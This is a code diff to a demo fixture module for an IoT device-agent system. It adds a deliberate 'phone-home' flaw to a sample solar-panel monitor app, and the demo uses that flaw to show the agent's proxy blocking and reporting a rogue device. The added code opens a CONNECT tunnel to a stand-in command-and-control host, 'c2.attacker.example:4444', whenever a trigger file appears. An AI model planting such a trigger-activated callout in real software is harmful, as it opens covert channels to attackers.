@@ -7,8 +7,11 @@ the system's interpreter) that sends 20 readings as telemetry through the agent'
 count kept in its own storage, across restarts), answers the direct method ``read_power``, and reports
 back its desired ``max_temperature``. A file ``crash-now`` dropped into its storage directory makes it
 crash as a faulty driver would (a segmentation fault after a line naming an address), which is how the
-demo shows crash reporting. :func:`prepare_agent` lays out one device's state directory the way
-``fleetward agent init`` and ``fleetward agent app install`` do.
+demo shows crash reporting. Releases before 2.2.2 have a flaw: a file ``phone-home`` in its storage (an
+attacker's doing) makes it try to reach a host its manifest does not declare, once a second, through the
+agent's proxy (which refuses and reports it): how the demo shows a device turning rogue.
+:func:`prepare_agent` lays out one device's state directory the way ``fleetward agent init`` and
+``fleetward agent app install`` do.
 """
 
 from __future__ import annotations
@@ -24,21 +27,26 @@ from cryptography.hazmat.primitives.asymmetric import ec
 from fleetward import appkit
 from fleetward.agent.config import AgentSettings, render_agent_toml, write_private_file
 from fleetward.agent.install import install_package
-from fleetward.agent.manifest import Capabilities, Manifest
+from fleetward.agent.manifest import AllowedConnection, Capabilities, Manifest
 from fleetward.agent.package import build_package, sign_package
 from fleetward.agent.rot import SoftwareRootOfTrust
+from fleetward.wire.versions import parse_version
 
 PANEL_MONITOR = "5e1f7a2c-3b4d-4c8e-9f10-2a3b4c5d6e7f"
 PANEL_MONITOR_VERSION = "2.1.0"
+#: the first release without the ``phone-home`` flaw
+FIXED_VERSION = "2.2.2"
+WEATHER_SERVICE = "weather.solar.example:443"
 INVERTER_BRIDGE = "7c2d9e41-0a6b-4f3c-8d5e-1b2a3c4d5e6f"
 SYSTEM_PYTHON = Path("/usr/bin/python3")
 
 PANEL_MONITOR_SCRIPT = r"""
-import os, signal, sys, time
+import os, signal, socket, sys, time, urllib.parse
 
 from appkit import AgentClient, AgentError  # shipped in the package, next to this script
 
 READINGS = 20
+FLAWED = True
 print("panel-monitor 2.1.0 started", flush=True)
 agent = AgentClient(timeout=10).connect()
 limits = {"max_temperature": 80}
@@ -53,6 +61,19 @@ def on_desired(desired):
     limits.update({key: value for key, value in desired.properties.items() if value is not None})
     agent.report({"max_temperature": limits["max_temperature"]})
     print("max_temperature is now", limits["max_temperature"], flush=True)
+
+
+def phone_home():
+    proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", ""))
+    if not proxy.hostname:
+        return
+    target = b"c2.attacker.example:4444"
+    try:
+        with socket.create_connection((proxy.hostname, proxy.port), timeout=2) as tunnel:
+            tunnel.sendall(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n")
+            tunnel.recv(1024)
+    except OSError:
+        pass
 
 
 def once_enrolled(action):
@@ -73,7 +94,11 @@ try:  # how many readings went out is kept in the application's own storage, acr
         sent = int(counter.read() or 0)
 except FileNotFoundError:
     sent = 0
+called_home = 0.0
 while True:
+    if FLAWED and os.path.exists("phone-home") and time.monotonic() - called_home >= 1:
+        called_home = time.monotonic()
+        phone_home()
     if os.path.exists("crash-now"):
         os.unlink("crash-now")
         sys.stderr.write("reading register 40071 of the inverter\n")
@@ -115,14 +140,22 @@ def panel_monitor_package(
     tenant_id: str, version: str = PANEL_MONITOR_VERSION, *, broken: bool = False
 ) -> bytes:
     """panel-monitor ``version`` for ``tenant_id``'s devices (DeviceAuthentication names the tenant);
-    ``broken``: a release that exits at once (it never passes an update's trial)."""
+    ``broken``: a release that exits at once (it never passes an update's trial). From 2.2.2 on the
+    ``phone-home`` flaw is fixed."""
     manifest = Manifest(
         name="panel-monitor",
         component_id=PANEL_MONITOR,
         entry_point="bin/panel-monitor",
-        capabilities=Capabilities(mutable_storage_kb=64, device_authentication=tenant_id),
+        capabilities=Capabilities(
+            mutable_storage_kb=64,
+            device_authentication=tenant_id,
+            # the weather forecast it fetches: the one destination it declares
+            allowed_connections=(AllowedConnection.parse(WEATHER_SERVICE),),
+        ),
     )
     body = PANEL_MONITOR_SCRIPT.replace(f"panel-monitor {PANEL_MONITOR_VERSION}", f"panel-monitor {version}")
+    if parse_version(version) >= parse_version(FIXED_VERSION):
+        body = body.replace("FLAWED = True", "FLAWED = False")
     if broken:
         body = BROKEN_START.format(version=version) + body
     return build_package(manifest, with_appkit({"bin/panel-monitor": script(body)}))
